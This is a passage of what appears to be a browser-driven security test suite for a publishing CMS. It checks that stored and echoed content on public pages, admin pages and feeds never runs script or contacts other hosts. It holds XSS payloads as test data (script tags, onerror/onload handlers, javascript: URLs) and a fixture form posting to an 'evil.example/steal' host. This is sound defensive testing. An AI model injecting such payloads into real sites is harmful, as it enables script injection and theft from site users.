      if (name === 'meta' && (el.getAttribute('http-equiv') ?? '').toLowerCase() === 'refresh') problems.push(`meta refresh: ${tagOf(el)}`);
      if (name === 'form' || el.hasAttribute('formaction')) {
        const target = absolute(el.getAttribute(name === 'form' ? 'action' : 'formaction') ?? '');
        if (target && /^https?:/.test(target) && new URL(target).origin !== here) problems.push(`form posting to another site: ${tagOf(el)}`);
      }
      if ((name === 'img' || name === 'source') && el.closest('.article__body')) {
        const urls = [el.getAttribute('src') ?? '', ...(el.getAttribute('srcset') ?? '').split(',').map((c) => c.trim().split(/\s+/)[0] ?? '')];
        for (const u of urls) {
          const abs = u ? absolute(u) : undefined;
          if (abs && /^https?:/.test(abs) && new URL(abs).origin !== here) bodyImages.push(abs);
        }
      }
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  visit(document);
  return { problems, bodyImages };
}

interface Visit {
  /** Path (and query) on the site. */
  path: string;
  /** A selector to wait for once loaded (the editor's ready mark). */
  ready?: string;
  /** What a person does on the page before it is looked at. */
  act?: (page: Page) => Promise<void>;
  /** A label when the path alone does not say what was looked at. */
  label?: string;
}

/** The same finding once, with how many times it was seen. */
function counted(list: Finding[]): Finding[] {
  const seen = new Map<string, { f: Finding; n: number }>();
  for (const f of list) {
    const had = seen.get(f.what);
    if (had) had.n++;
    else seen.set(f.what, { f, n: 1 });
  }
  return [...seen.values()].map(({ f, n }) => (n > 1 ? { ...f, what: `${f.what} (×${n})` } : f));
}

/** The HTML of every entry of a feed (RSS content:encoded and description, Atom content and summary, JSON Feed content_html). */
function entryHtml(body: string, contentType: string): string[] {
  if (contentType.includes('json')) {
    // JSON Feed's summary is plain text by definition; content_html is the HTML.
    const feed = JSON.parse(body) as { items?: { content_html?: string }[] };
    return (feed.items ?? []).map((i) => i.content_html ?? '').filter(Boolean);
  }
  const xml = parseDocument(body, { xmlMode: true });
  const fields = DomUtils.findAll(
    (el) =>
      ['content:encoded', 'description', 'content', 'summary'].includes(el.name) &&
      el.parent?.type === 'tag' &&
      ['item', 'entry'].includes((el.parent as { name: string }).name),
    xml.children,
  );
  return fields.map((el) => DomUtils.textContent(el)).filter(Boolean);
}

/** What an entry's HTML holds that a feed reader must not be given. */
function feedHtmlProblems(html: string, origin: string): string[] {
  const out: string[] = [];
  const dom = parseDocument(html);
  for (const el of DomUtils.findAll(() => true, dom.children)) {
    const tag = `<${el.name}${Object.entries(el.attribs)
      .map(([k, v]) => ` ${k}="${v.slice(0, 60)}"`)
      .join('')}>`.slice(0, 160);
    if (['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'form', 'style', 'link', 'svg', 'math'].includes(el.name))
      out.push(`<${el.name}> in an entry: ${tag}`);
    for (const [k, v] of Object.entries(el.attribs)) {
      if (k.startsWith('on')) out.push(`event handler attribute ${k}: ${tag}`);
      const url = v.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'cite', 'poster', 'data'].includes(k) && /^(javascript:|vbscript:|data:text\/html)/.test(url))
        out.push(`${k}="${v.slice(0, 80)}": ${tag}`);
    }
    if (el.name === 'img' || el.name === 'source') {
      const urls = [el.attribs.src ?? '', ...(el.attribs.srcset ?? '').split(',').map((c) => c.trim().split(/\s+/)[0] ?? '')];
      for (const u of urls)
        if (/^(https?:)?\/\//i.test(u.trim()) && !u.trim().startsWith(`${origin}/`)) out.push(`image from another host: ${u.slice(0, 120)}`);
    }
  }
  return out;
}

/** A browsing context (CSP on or bypassed) that records dialogs and requests, and aborts any request leaving 127.0.0.1. */
class Tab {
  requests: Request[] = [];
  dialogs: string[] = [];
  popups = 0;
  pageErrors: string[] = [];
  private constructor(
    readonly context: BrowserContext,
    readonly page: Page,
    readonly mode: Mode,
  ) {}

  static async open(browser: Browser, mode: Mode): Promise<Tab> {
    const context = await browser.newContext({ bypassCSP: mode === 'bypass-csp', viewport: { width: 1280, height: 900 } });
    await context.route(
      (url) => url.hostname !== '127.0.0.1',
      (route) => route.abort(),
    );
    const page = await context.newPage();
    const tab = new Tab(context, page, mode);
    context.on('request', (r) => tab.requests.push(r));
    context.on('page', (p) => {
      if (p !== page) tab.popups++;
    });
    page.on('dialog', (d) => {
      // The page's own "leave this page?" is not a payload; anything else is.
      if (d.type() !== 'beforeunload') tab.dialogs.push(`${d.type()}: ${d.message().slice(0, 120)}`);
      void d.dismiss().catch(() => {});
    });
    page.on('pageerror', (e) => tab.pageErrors.push(e.message));
    return tab;
  }

  /** Loads `v` and returns what it found, and the remote requests made by images in article bodies apart. */
  async look(base: string, v: Visit): Promise<{ findings: Finding[]; bodyImageRequests: Finding[] }> {
    this.requests = [];
    this.dialogs = [];
    this.popups = 0;
    const label = v.label ?? v.path;
    const findings: Finding[] = [];
    const found = (what: string) => findings.push({ page: label, mode: this.mode, what });
    const res = await this.page.goto(base + v.path, { waitUntil: 'load' });
    if (!res) found('no response');
    else if (res.status() >= 500) found(`answered ${res.status()}`);
    if (v.ready) await this.page.waitForSelector(v.ready, { timeout: 30_000 });
    if (v.act) await v.act(this.page);
    // Two frames, so autofocus, failed image loads and the like have run their course.
    await this.page.evaluate(() => new Promise<void>((r) => requestAnimationFrame(() => requestAnimationFrame(() => r()))));
    const { problems, bodyImages } = await this.page.evaluate(scanDom);
    for (const x of problems) found(x);
    for (const d of this.dialogs) found(`dialog ${d}`);
    if (this.popups) found(`${this.popups} window(s) opened`);
    const inBody = new Set(bodyImages);
    const bodyImageRequests: Finding[] = [...inBody].map((u) => ({
      page: label,
      mode: this.mode,
      what: `remote image kept in the article body: ${u.slice(0, 160)}`,
    }));
    for (const r of this.requests) {
      let url: URL;
      try {
        url = new URL(r.url());
      } catch {
        continue;
      }
      if (!/^(https?|wss?|ftp):$/.test(url.protocol) || url.hostname === '127.0.0.1') continue;
      // With the CSP on, chromium still reports the attempt; say when the policy refused it.
      const csp = /csp/i.test(r.failure()?.errorText ?? '') ? ' (refused by the CSP)' : '';
      const f = { page: label, mode: this.mode, what: `${r.resourceType()} request to ${r.url().slice(0, 160)}${csp}` };
      if (r.resourceType() === 'image' && inBody.has(r.url())) bodyImageRequests.push(f);
      else findings.push(f);
    }
    return { findings: counted(findings), bodyImageRequests: counted(bodyImageRequests) };
  }

  close(): Promise<void> {
    return this.context.close();
  }
}

// ---------------------------------------------------------------------------------------------
// The suite
// ---------------------------------------------------------------------------------------------

describe.skipIf(!browserAvailable())('hostile content on every page, in chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('the corpus covers every family with more than 60 strings, each that would run calling a marker', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
    const families = new Set(HOSTILE.map((x) => x.family));
    expect([...families].sort()).toEqual(
      ['bidi-zero-width', 'breakout', 'css', 'embed', 'event-handler', 'long', 'remote-image', 'script', 'sql', 'svg-mathml', 'template', 'url-scheme'].sort(),
    );
    const runs = HOSTILE.filter((x) => ['script', 'event-handler', 'svg-mathml', 'breakout'].includes(x.family) && x.value !== '<plaintext>');
    for (const x of runs) expect(x.value, x.family).toMatch(/alert\(1\)|confirm\(1\)|prompt\(1\)|alert&#40;1&#41;|evil\.example/);
  });

  it('the checks see each thing they look for (a page made to fail them all)', async () => {
    const bad = `<!doctype html><html><head><meta http-equiv="refresh" content="600;url=/elsewhere"><base href="/"><title>x</title></head><body>
      <img src="https://${EVIL_HOST}/outside.gif" onerror="void 0">
      <a href=" java&#x09;script:void(0)">x</a> <a href="DATA:text/html,x">y</a>
      <script>alert(1)</script><script type="application/ld+json">{"broken":</script><script src="/media/upload.js"></script>
      <iframe srcdoc="x"></iframe><object data="/x"></object>
      <form action="https://${EVIL_HOST}/steal"><button formaction="vbscript:x">go</button></form>
      <div class="article__body"><img src="https://${EVIL_HOST}/in-body.gif" alt=""></div>
      <div id="host"></div><script>document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<b onclick="x">in a shadow root</b>';</script>
    </body></html>`;
    const tab = await Tab.open(browser, 'bypass-csp');
    try {
      const origin = 'http://127.0.0.1:9';
      await tab.page.route(`${origin}/check`, (route) => route.fulfill({ contentType: 'text/html', body: bad }));
      const r = await tab.look(origin, { path: '/check' });
      const what = r.findings.map((f) => f.what).join('\n');
      for (const expected of [
        /^event handler attribute onerror on <img/m,
        /^event handler attribute onclick on <b/m,
        /^href=" java\tscript:void\(0\)"/m,
        /^href="DATA:text\/html,x"/m,
        /^formaction="vbscript:x"/m,
        /^script that is not the site's own: <script>alert\(1\)/m,
        /^script that is not the site's own: <script src="\/media\/upload\.js">/m,
        /^JSON-LD that does not parse/m,
        /^<iframe> element/m,
        /^<object> element/m,
        /^<base> element/m,
        /^meta refresh/m,
        /^form posting to another site/m,
        /^dialog alert: 1$/m,
        /^image request to https:\/\/evil\.example\/outside\.gif$/m,
      ])
        expect(what).toMatch(expected);
      // The image inside an article body is the known defect's: listed apart, not among the findings.
      expect(what).not.toContain('in-body.gif');
      expect(r.bodyImageRequests.map((f) => f.what)).toEqual([
        'remote image kept in the article body: https://evil.example/in-body.gif',
        'image request to https://evil.example/in-body.gif',
      ]);
    } finally {
      await tab.close();
    }
    // With the CSP on, a refused attempt is still a finding, and says so.
    const strict = await Tab.open(browser, 'csp');
    try {
      const origin = 'http://127.0.0.1:9';
      await strict.page.route(`${origin}/check`, (route) =>
        route.fulfill({ contentType: 'text/html', headers: { 'content-security-policy': "img-src 'self'" }, body: `<img src="https://${EVIL_HOST}/p.gif">` }),
      );
      const r = await strict.look(origin, { path: '/check' });
      expect(r.findings.map((f) => f.what)).toEqual(['image request to https://evil.example/p.gif (refused by the CSP)']);
    } finally {
      await strict.close();
    }
  });

  for (const dialect of DIALECTS) suiteFor(dialect, () => browser);
});

function suiteFor(dialect: DialectName, browserOf: () => Browser): void {
  describe(dialect, () => {
    let t: TestDb;
    let app: FastifyInstance;
    let base: string;
    let s: Seeded;
    const clock = new Clock(NOW.getTime());
    const findings: Finding[] = [];
    const bodyImageRequests: Finding[] = [];
    const pageErrors = new Set<string>();
    const looked: string[] = [];
    let started = 0;

    beforeAll(async () => {
      started = Date.now();
      t = await freshDb(dialect);
      const port = await freePort();
      base = `http://127.0.0.1:${port}`;
      // Page and fragment caches off: this suite looks at rendering, and writes through services that do not purge.
      app = await adminApp(t, { clock, env: { SITE_URL: base, PORT: String(port), PAGE_CACHE_MB: '0', FRAGMENT_CACHE_MB: '0' } });
      await app.listen({ host: '127.0.0.1', port });
      s = await seed(t, app, base, clock);
    }, 180_000);
    afterAll(async () => {
      await app?.close();
      await t?.cleanup();
      console.info(
        `[hostile-content ${dialect}] ${HOSTILE.length} strings; accepted ${JSON.stringify(s?.accepted)}; refused ${JSON.stringify(s?.refused)}; ` +
          `${looked.length} page loads; ${((Date.now() - started) / 1000).toFixed(1)} s` +
          (pageErrors.size ? `; page errors: ${[...pageErrors].join(' | ')}` : ''),
      );
    });

    const lookAt = async (visits: Visit[], signIn: boolean) => {
      for (const mode of MODES) {
        const tab = await Tab.open(browserOf(), mode);
        try {
          if (signIn) {
            await logIn(tab.page, base, s.owner.email);
            await tab.page.waitForURL(/\/admin$/);
          }
          for (const v of visits) {
            const r = await tab.look(base, v);
            findings.push(...r.findings);
            bodyImageRequests.push(...r.bodyImageRequests);
            looked.push(`${mode} ${v.label ?? v.path}`);
          }
          for (const e of tab.pageErrors) pageErrors.add(e.slice(0, 200));
        } finally {
          await tab.close();
        }
      }
    };

    it('stores the corpus in every field that takes it, and refuses (4xx) what the rules forbid', () => {
      expect(s.accepted['article (admin form)']).toBe(2);
      expect(s.accepted['article (service)']).toBeGreaterThanOrEqual(5);
      expect(s.accepted.comment).toBe(VALUES.length + 4);
      expect(s.accepted.category).toBeGreaterThan(VALUES.length / 2);
      expect(s.accepted['user name']).toBeGreaterThan(10);
      expect(s.accepted['raw slug'] ?? 0).toBe(0);
      expect(s.importedSlugs.length).toBeGreaterThanOrEqual(3);
      expect(s.mediaIds.length).toBeGreaterThanOrEqual(6);
    });

    it('public pages: no payload runs, reaches another host or survives as markup (CSP on and bypassed)', async () => {
      const q = (v: string) => `/search?q=${encodeURIComponent(v)}`;
      const visits: Visit[] = [
        { path: '/' },
        { path: '/page/2/' },
        { path: `/${s.everything.slug}/` },
        { path: `/${s.everything.slug}/comment-page-2/` },
        ...s.serviceSlugs.slice(0, SERVICE_BODIES).map((slug) => ({ path: `/${encodeURIComponent(slug)}/` })),
        ...s.importedSlugs.map((slug) => ({ path: `/${encodeURIComponent(slug)}/` })),
        { path: `/preview/${s.previewToken}/`, label: '/preview/TOKEN/' },
        ...s.categoryPaths.slice(0, 2).map((p) => ({ path: p })),
        { path: s.categoryPaths[10]! },
        ...s.categoryPaths.slice(-2).map((p) => ({ path: p })),
        ...s.tagSlugs.map((slug) => ({ path: `/tag/${encodeURIComponent(slug)}/` })),
        ...s.authorSlugs.slice(0, 2).map((slug) => ({ path: `/author/${slug}/` })),
        { path: '/author/wolf/' },
        { path: '/corrections/' },
        { path: q('alert') },
        { path: q('evil') },
        // The search box echoes what was typed: one payload of each kind of markup.
        ...SEARCHED.map((v) => ({ path: q(v) })),
        { path: `/search?q=x&tag=${encodeURIComponent('"><svg onload=alert(1)>')}&author=${encodeURIComponent('<script>alert(1)</script>')}` },
        { path: `/${encodeURIComponent('<script>alert(1)</script>')}/` },
        { path: `/tag/${encodeURIComponent('"><img src=x onerror=alert(1)>')}/` },
      ];
      await lookAt(visits, false);
      expect(findings.map(show)).toEqual([]);
    }, 240_000);

    it('admin pages: no payload runs, reaches another host or survives as markup (CSP on and bypassed)', async () => {
      const before = findings.length;
      const id = s.everything.id;
      const visits: Visit[] = [
        { path: '/admin' },
        { path: '/admin/articles' },
        { path: `/admin/articles?q=${encodeURIComponent(ONE_PER_FAMILY[0]!)}` },
        {
          path: `/admin/articles/${id}`,
          label: `/admin/articles/${id} with the media picker open`,
          ready: '[data-editor-ready] .ProseMirror',
          act: async (page) => {
            await page.click('button[data-command="Image from the media library"]');
            await page.locator('dialog[data-media-picker] button[aria-pressed]').first().waitFor({ timeout: 15_000 });
          },
        },
        { path: `/admin/articles/${s.serviceIds[0]}`, ready: '[data-editor-ready] .ProseMirror' },
        { path: `/admin/articles/${s.importedIds[1] ?? s.importedIds[0]}`, ready: '[data-editor-ready] .ProseMirror' },
        { path: `/admin/articles/${id}/revisions` },
        { path: `/admin/articles/${s.serviceIds[0]}/revisions` },
        { path: `/admin/articles/${s.serviceIds[0]}/revisions/${s.revisionId}/compare?with=previous` },
        { path: `/admin/articles/${id}/preview` },
        { path: `/admin/articles/${id}/corrections/${s.correctionId}` },
        {
          path: '/admin/articles/new',
          label: '/admin/articles/new sent back with errors',
          ready: '[data-editor-ready] .ProseMirror',
          act: async (page) => {
            await page.fill('#title', VALUES.find((v) => v.startsWith('"><'))!);
            await page.fill('#slug', '"><svg onload=alert(1)>');
            await page.fill('#excerpt', VALUES.slice(0, 20).join(' '));
            await Promise.all([page.waitForEvent('load'), page.click('button[value=save]')]);
          },
        },
        { path: '/admin/media' },
        { path: `/admin/media?q=${encodeURIComponent('<img')}` },
        { path: `/admin/media/${s.mediaIds[0]}` },
        { path: '/admin/categories' },
        { path: `/admin/categories/${s.categoryIds[0]}` },
        { path: '/admin/tags' },
        { path: `/admin/tags/${s.tagIds[0]}` },
        { path: '/admin/comments?status=approved' },
        { path: '/admin/comments?status=pending' },
        { path: '/admin/comments?status=spam' },
        { path: `/admin/comments?status=approved&author=${encodeURIComponent(nameSafe(ONE_PER_FAMILY[1]!))}` },
        { path: `/admin/comments/${s.commentIds[1]}` },
        { path: '/admin/comments/rules' },
        { path: '/admin/users' },
        { path: '/admin/audit' },
      ];
      await lookAt(visits, true);
      expect(findings.slice(before).map(show)).toEqual([]);
    }, 240_000);

    it('feeds (not looked at in the browser): no entry carries a script, a handler, a frame, a bad link or an image from another host', async () => {
      const feeds = [
        '/feed/',
        '/feed/atom/',
        '/feed/json/',
        `/tag/${encodeURIComponent(s.tagSlugs[0]!)}/feed/`,
        `/author/${s.authorSlugs[0]}/feed/atom/`,
        `${s.categoryPaths[0]}feed/json/`,
        '/category/wp-section-0/feed/',
      ];
      const problems: string[] = [];
      let entries = 0;
      for (const f of feeds) {
        const res = await app.inject(f);
        if (res.statusCode !== 200) {
          problems.push(`${f}: answered ${res.statusCode}`);
          continue;
        }
        const htmls = entryHtml(res.body, String(res.headers['content-type']));
        entries += htmls.length;
        for (const html of htmls) problems.push(...feedHtmlProblems(html, base).map((x) => `${f}: ${x}`));
      }
      expect([...new Set(problems)]).toEqual([]);
      expect(entries).toBeGreaterThan(feeds.length);
    });

    // The remote-images change (cabdc1e): before it, the sanitiser kept <img src="https://…">, remote
    // srcset candidates and <picture> sources in stored article HTML, and the WordPress importer
    // old-site images, so readers' browsers asked other hosts for them. Kept apart from the other
    // findings so that a regression names itself.
    it('no request to another host from stored article images', () => {
      expect(bodyImageRequests.map(show)).toEqual([]);
    });
  });
}
